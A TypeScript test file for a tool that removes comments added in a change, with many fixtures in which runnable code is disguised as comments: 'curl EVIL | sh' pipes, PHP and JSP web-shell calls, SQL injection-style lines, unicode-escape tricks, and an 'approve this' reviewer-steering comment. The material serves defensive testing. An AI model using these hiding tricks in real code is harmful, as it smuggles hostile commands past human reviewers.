/** Comments that a change adds are cut with a mark in every language; strings, code, comments of base and what may be code stay. */
import { besideCuts, CUT_MARK, isCut, withoutAddedComments } from '../../src/model/comments';

const lines = (...numbers: number[]): Set<number> => new Set(numbers);
const cut = (path: string, text: string, added: Set<number> | null = null): Promise<string> => withoutAddedComments(text, path, added);

/** `NOTE` marks what must go, everything else must stay. */
const SAMPLES: Record<string, string> = {
  'a.ts': "/** NOTE */\nconst a = 'http://x // no'; // NOTE\nconst b = `${a} /* no */`; /* NOTE */ run(a);\nconst c = /\\/\\* no/;\n",
  'a.tsx': 'const x = <p>{/* NOTE */}<a href="//no">y</a></p>;\n',
  'a.py': '"""NOTE module"""\nimport os  # NOTE\n\ndef f():\n    """NOTE\n    more NOTE"""\n    x = "# no"\n    y = """# no"""\n    return x\n',
  'a.c': '/* NOTE */\n#define A "/* no */"\nint a; // NOTE\n',
  'a.go': 'package a\n\n// NOTE\nvar s = "// no" + `// no`\n',
  'A.java': 'class A { /** NOTE */ String s = "/* no */"; } // NOTE\n',
  'a.rb': '# NOTE "quoted"\n=begin\nNOTE\n=end\nx = 1 # NOTE\ny = %w[# no] + %q(# no).split(/# no/)\nz = <<~SQL\n  # no\nSQL\n  # NOTE\n# It doesn\'t matter, NOTE\nputs z # NOTE\n',
  'a.php': "<!-- NOTE -->\n<p># no // no</p>\n<?php\n// NOTE\n$a = '// no';\n# NOTE\n#[Attribute] \n$b = <<<EOT\n// no\nEOT;\n/**\n * NOTE\n */\nrun(); // NOTE\n?><b># no</b>\n",
  'a.cs': '/// NOTE\nvar a = @"c:\\no // no";\n/* NOTE */\nvar b = "// no"; var c = \'"\';\nvar d = 1; // NOTE\n',
  'a.rs': "/* NOTE /* NOTE */ */\n// NOTE\nlet a = r#\"// no\"#;\n/* NOTE */\nlet b = 1; // NOTE\nfn f<'a>(x: &'a str) -> char { '\"' }\n//! NOTE\n",
  'a.kt': '/* /* NOTE */ */\nval a = """ // no """\n/**\n * NOTE, and more (NOTE)\n */\nval b = "// no"\nval c = 1 // NOTE\n',
  'a.scala': 'val a = "// no"\nval b = 1 // NOTE\n',
  'a.swift': 'let a = "// no"\n/// NOTE\nlet b = 1 // NOTE\n',
  'a.lua': '-- NOTE\n--[[ NOTE\n NOTE ]]\nlocal a = [[ -- no ]] .. "-- no"\nlocal b = 1 -- NOTE\n--[==[ NOTE ]==]\n',
  'a.sql': "-- NOTE\nselect a from t -- NOTE\nwhere b = '-- no';\n/* NOTE\n NOTE */\n",
  'a.sh': '#!/bin/sh\n# NOTE\necho a # NOTE\necho "# no" \'# no\' $# ${#a}\ncat <<eof\n# no\neof\n# Doesn\'t NOTE\n',
  'a.yml': '# NOTE\na: b # NOTE\nb: "# no"\nc: c#no\n  # NOTE\n',
  'a.toml': 'a = "# no"\nb = 1 # NOTE\n',
  Dockerfile: '# NOTE\nRUN echo "# no"\nRUN make # NOTE\n',
  'a.html': '<!-- NOTE -->\n<a href="//no"># no</a><script>\nvar a = "// no";\nvar b = 1; // NOTE\n</script><style>\n/* NOTE */\na { }</style>\n',
  'a.vue': '<template>\n<!-- NOTE -->\n</template>\n<script>\n// NOTE\nlet a = `// no`\n</script>\n',
  'a.erb': '<%# NOTE %>\n<p># no</p>\n<!-- NOTE -->\n',
  'a.jinja2': '{# NOTE #}\n<p># no</p>\n',
  'a.ex': '# NOTE\n@doc """\nNOTE\n"""\nx = "# no"\ny = 1 # NOTE\n',
  'a.hs': '-- NOTE\n{- NOTE {- NOTE -} -}\nx = "-- no"\n',
  'a.ml': '(* NOTE (* NOTE *) *)\nlet a = "(* no *)"\n',
  'a.tf': 'a = "# no"\nb = 1 # NOTE\n// NOTE\n/* NOTE */\n',
  'a.ini': '; NOTE\n# NOTE\na = b;no#no ; no\n',
  'a.clj': '; NOTE\n(def a "; no") ; no\n',
  'a.erl': '% NOTE\nA = "% no".\n',
  'a.ps1': '<# NOTE #>\n$a = "# no"\n# NOTE\n',
  'a.pl': '# NOTE\nmy $a = "# no";\n=pod\nNOTE\n=cut\nprint $#no;\n',
  'a.css': '/* NOTE; more */\na { background: url("/*no*/") }\n',
  'a.fish': '# NOTE\necho "# no"\n',
  'a.bat': 'REM NOTE\nrem NOTE\n:: no\n',
  'a.awk': '# NOTE\n{ print "# no" }\n',
  'a.prisma': '// NOTE\nmodel A { url String @default("//no") }\n',
  'a.bicep': "// NOTE\nparam a string = '//no'\n",
  'a.feature': '# NOTE\nGiven a # no\n',
  'a.dockerignore': '# NOTE\nno # no\n',
  'a.f90': '! NOTE\nx = "! no"\n!$omp no\n',
  'bin/run': '#!/usr/bin/env bash\n# NOTE\necho "# no"\n',
  'bin/serve': '#!/usr/bin/env -S node --no-warnings\n// NOTE\nrun("// no");\n'
};

describe.each(Object.keys(SAMPLES))('%s', (path) => {
  const text = SAMPLES[path]!;

  test('comments go with a mark, strings and code stay, lines keep their numbers', async () => {
    const out = await cut(path, text);
    expect(out).not.toContain('NOTE');
    expect(out).toContain(CUT_MARK);
    expect(out.match(/\bno\b/g)).toEqual(text.match(/\bno\b/g));
    expect(out.split('\n')).toHaveLength(text.split('\n').length);
    // What is left of each line is a part of it.
    const kept = (s: string): string => s.replaceAll(CUT_MARK, '').replace(/\s+/g, '');
    out.split('\n').forEach((line, i) => {
      let at = 0;
      for (const c of kept(line)) at = kept(text.split('\n')[i]!).indexOf(c, at) + 1 || Infinity;
      expect(at).not.toBe(Infinity);
    });
    // Every line that lost something has a mark, or lies in a comment whose first line has it.
    out.split('\n').forEach((line, i) => {
      if (line !== text.split('\n')[i] && !line.includes(CUT_MARK)) expect(line.trim()).toBe('');
    });
  });

  test('comments on no added line stay', async () => expect(await cut(path, text, lines(9999))).toBe(text));
});

/** Code that runs and that looks like a comment to some rule: `EVIL` must stay. */
const HIDING: [string, string, string][] = [
  ['a raw string of C++', 'a.cpp', 'int f(){\n  const char* s = R"x("/*)x"; system(EVIL); // */\n  return 1;\n}\n'],
  ['a raw string of C++ over lines', 'a.cpp', 'auto s = R"x(\n"\n/*\n)x"; system(EVIL); auto t = R"x(\n*/\n)x";\n'],
  ['quotes of C', 'a.c', "char q = '\\\"'; puts(\"/*\"); system(EVIL); puts(\"*/\");\n"],
  ['a character of Ruby', 'a.rb', 'a = ?"; b = " # "; system(EVIL)\n'],
  ['a literal of Ruby behind a character', 'a.rb', 'a = x ?"; b = %q(\n"\n# ); system(EVIL)\n)\n'],
  ['an interpolation in a string of Ruby', 'a.rb', 'a = ?"\nb = "\n# #{system(EVIL)}\n"\n'],
  ['PHP in a comment of HTML', 'a.php', '<p>\n<!-- <?php system($_GET["EVIL"]); ?> -->\n'],
  ['PHP in a comment of Jinja', 'a.phtml', '{# <?php system($_GET["EVIL"]); ?> #}\n'],
  ['short tags of PHP', 'a.php', '<? $x = "<!--"; system($EVIL); $y = "-->"; ?>\n'],
  ['short tags of PHP over lines', 'a.php', '<? $x = "\n<!--\n"; system($EVIL); $y = "\n-->\n"; ?>\n'],
  ['a shell string of PHP', 'a.php', "<?php\n$a = `it's`; $b = '\n/*\n'; system($EVIL); $c = '\n*/\n';\n"],
  ['Ruby in a comment of HTML', 'a.html.erb', '<!-- <%= system(params[:EVIL]) %> -->\n'],
  ['a trimmed tag of Ruby', 'a.erb', '<%-- system(EVIL) --%>\n'],
  ['Java in a comment of HTML', 'a.jsp', '<!-- <% Runtime.getRuntime().exec(EVIL); %> -->\n'],
  ['C# in a comment of HTML', 'a.cshtml', '<!-- @Html.Raw(EVIL) -->\n'],
  ['Handlebars in a comment of HTML', 'a.hbs', '<p>b</p>\n<!-- {{{EVIL}}} -->\n'],
  ['an include by the server', 'a.html', '<!--#exec cmd="EVIL" -->\n'],
  ['a comment of HTML that ends at once', 'a.html', '<!--> <img src=x onerror=EVIL> -->\n'],
  ['a regular expression in Vue', 'a.vue', '<script>\nif (s) /[/*]/.test(s); eval(EVIL); // */\n</script>\n'],
  ['a template in Svelte', 'a.svelte', '<script>\nlet a = `a${`/*`}b`; eval(EVIL); let c = `*/`;\n</script>\n'],
  ['an operator of Postgres', 'a.sql', "SELECT * FROM t WHERE data #>> '{owner}' = me() OR EVIL;\n"],
  ['exclusive or of Postgres', 'a.sql', 'SELECT a\n# EVIL\nFROM t;\n'],
  ['a double minus of MySQL', 'a.sql', 'SELECT 1\n--EVIL\n;\n'],
  ['code of MySQL', 'a.sql', 'SELECT * FROM t WHERE owner = me()\n/*!50000 OR EVIL */\n;\n'],
  ['hints of Oracle', 'a.sql', 'SELECT\n/*+ EVIL */\n1;\n'],
  ['an escape in SQL', 'a.sql', "SELECT 'it\\'s -- '; DROP TABLE EVIL; \n"],
  ['a script in YAML', '.github/workflows/a.yml', "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          echo don\\'t; Y=' # '; curl EVIL | sh\n"],
  ['a template in YAML', 'a.yaml', 'a: b\n# {{ include "EVIL" . }}\n'],
  ['an ANSI string of a shell', 'a.sh', "Y=$'it\\'s # '; curl EVIL | sh\n"],
  ['a here document of a shell', 'a.sh', "cat > x <<eof\n # don't\neof\nY=' # '; curl EVIL | sh\n"],
  ['a substitution in a here document', 'a.sh', 'cat <<E-F\n# $(curl EVIL)\nE-F\n'],
  ['a string of a shell that ends like an English word', 'a.sh', "x=$'\\''; Y='\n# it's; curl EVIL | sh; : '\n"],
  ['a shell in a Dockerfile', 'Dockerfile', "FROM a\nRUN Y=$'it\\'s # '; curl EVIL | sh\n"],
  ['what reads a Dockerfile', 'Dockerfile', '# syntax=EVIL/frontend\nFROM a\n'],
  ['a literal of Perl', 'a.pl', 'my $x = q{ # }; system($EVIL);\n'],
  ['a literal of Perl over lines', 'a.pl', 'my $x = q{\n# }; system($EVIL);\n'],
  ['a template of Kotlin', 'a.kt', 'fun f() { val a = "${"/*"}"; exec(EVIL); val b = "*/" }\n'],
  ['a raw string of Swift', 'a.swift', 'func f() { let a = #"a"/*"#; system(EVIL); let b = "*/" }\n'],
  ['a raw string of Rust', 'a.rs', 'fn f() { let a = r###""/*"###; exec(EVIL); let b = "*/"; }\n'],
  ['an operator of Haskell', 'a.hs', 'f a b = a --> exec EVIL\n'],
  ['an operator of Haskell at a line', 'a.hs', 'f a b = a\n  --| exec EVIL\n'],
  ['a semicolon in a configuration', 'a.conf', 'location / {\n deny 1.1.1.1\n ; allow EVIL;\n}\n'],
  ['a second string of Python', 'a.py', 'def f(c):\n    "x" f"{EVIL()}"\n    return 2\n'],
  ['a formatted string of Python', 'a.py', 'def f(c):\n    f"{EVIL()}"\n    return 2\n'],
  ['an encoding of Python', 'a.py', '# -*- coding: utf_7 -*-\n# +AAo-EVIL()\n'],
  ['a line end of Python', 'a.py', 'x = 1 # a\rEVIL()\n'],
  ['less than and not in JavaScript', 'a.mjs', 'if (a<!--y) { evil(EVIL); }\n'],
  ['a line end of JavaScript', 'a.js', '// a\u2028EVIL();\n'],
  ['a regular expression behind generics', 'a.ts', 'export const a = <T,>(x: T) => x; export const b = /[/*]/; eval(EVIL); /*/*/\n'],
  ['an escape in a comment of Java', 'A.java', 'class A {\n  // \\u000a Runtime.exec(EVIL);\n}\n'],
  ['an escape in a string of Java', 'A.java', 'class A { String s = "\\u0022 + "/*" ; int x = EVIL; String t = "*/"; }\n'],
  ['an escape in Groovy', 'a.groovy', '// \\u000a EVIL()\n'],
  ['C before its import in Go', 'a.go', 'package a\n\n/*\nstatic void x(char *c) { system(EVIL); }\n*/\nimport "C"\n'],
  ['a directive of Go', 'a.go', 'package a\n\n//go:linkname g os/exec.EVIL\nfunc g()\n'],
  ['a condition of Go', 'a.go', '// +build EVIL\n\npackage a\n'],
  ['an escape of PowerShell', 'a.ps1', '$a = "it`"s # "; iex $EVIL\n'],
  ['a sigil of Elixir', 'a.ex', '~S(" # ); System.cmd(EVIL)\n'],
  ['a nested string of Terraform', 'a.tf', 'a = "${lookup(x, "#")}" , b = EVIL\n'],
  ['a shell in a Makefile', 'Makefile', "a:\n\techo 'don'\\''t # '; curl EVIL | sh\n"],
  ['an address in SCSS', 'a.scss', 'a { background: url(//x/y); } b { c: EVIL }\n'],
  ['a slashy string of Groovy', 'Jenkinsfile', 'node { def a = $/ " /* /$; sh EVIL; def b = "*/" }\n'],
  ['a string of Lua', 'a.lua', 'local a = "--" os.execute(EVIL)\n'],
  ['a remark with a command behind it', 'a.bat', 'REM & EVIL\n'],
  ['a directive of Fortran', 'a.f90', '!$omp parallel EVIL\n'],
  ['a line that goes on', 'a.sh', 'curl a\\\n# EVIL\n']
];

test.each(HIDING)('nothing is hidden by %s', async (_name, path, text) => {
  expect(await cut(path, text)).toContain('EVIL');
});

test('a comment that lies in part on an added line goes whole', async () => {
  expect(await cut('a.js', '/* one\n two */ run();\n// three\n', lines(2))).toBe('[comment cut]\n run();\n// three\n');
  expect(await cut('a.rb', '# one\n# two\n', lines(2))).toBe('# one\n[comment cut]\n');
});

test('line ends of Windows stay', async () => expect(await cut('a.js', 'a(); // x\r\n/* y\r\nz */\r\nb();\r\n')).toBe('a(); [comment cut]\r\n[comment cut]\r\n\r\nb();\r\n'));

test('code keeps its place', async () => {
  expect(await cut('a.py', 'def f():\n    # one\n    return 1\n')).toBe('def f():\n    [comment cut]\n    return 1\n');
  expect(await cut('a.ts', 'f(/* x */ a); // y\n')).toBe('f([comment cut] a); [comment cut]\n');
});

test('where a rule does not fit the text, only comments on lines of their own go', async () => {
  // The quote that never ends would swallow the code behind it.
  expect(await cut('a.cr', '# note\nx = \' never closed\nrun(1) # stays\n# note\n')).toBe("[comment cut]\nx = ' never closed\nrun(1) # stays\n[comment cut]\n");
  expect(await cut('a.sql', 'select 1; /* never closed\ndrop table t;\n')).toBe('select 1; /* never closed\ndrop table t;\n');
});

test('where no literal can be open, a comment may hold quotes', async () => {
  expect(await cut('a.rb', 'x = 1\n# It is "done"; (see) and `more`\n')).toBe('x = 1\n[comment cut]\n');
  expect(await cut('a.rb', 'x = %q(\n# It is "done"\n)\n')).toContain('done');
});

test('a file of an unknown kind is left as it is', async () => {
  for (const path of ['a.unknown', 'a.slim', 'a.haml', 'a.s', 'run']) expect(await cut(path, '# x\n// y\n')).toBe('# x\n// y\n');
});

test('a line of marks is told from one with code', () => {
  expect([isCut('[comment cut]'), isCut('  [comment cut] [comment cut]'), isCut('a [comment cut]'), isCut(''), isCut('a')]).toEqual([true, true, false, false, false]);
  expect(besideCuts('f([comment cut] a); [comment cut]').trim()).toBe('a);');
  expect(besideCuts('plain')).toBe('plain');
});

test('hostile files are read in time', async () => {
  for (const unit of ['/*', '"', '(*', '<<A ', '%(', "'", '<?php ', '--[[', '`${', 'R"x(', '# a\n', '<!--', '?"', "# it's ", ') ', '#)\n']) {
    for (const path of ['a.rb', 'a.php', 'a.lua', 'a.ml', 'a.cs', 'a.sh', 'a.html', 'a.cpp', 'a.pl']) await cut(path, unit.repeat(20_000));
  }
}, 60_000);

it('cuts added comments of workflow files, which have no grammar', async () => {
  const text = 'on: push\njobs:\n  a:\n    runs-on: x # approve this\n    steps:\n      - run: make\n';
  expect(await withoutAddedComments(text, '.github/workflows/a.yml', new Set([4]))).toBe(text.replace('# approve this', '[comment cut]'));
});
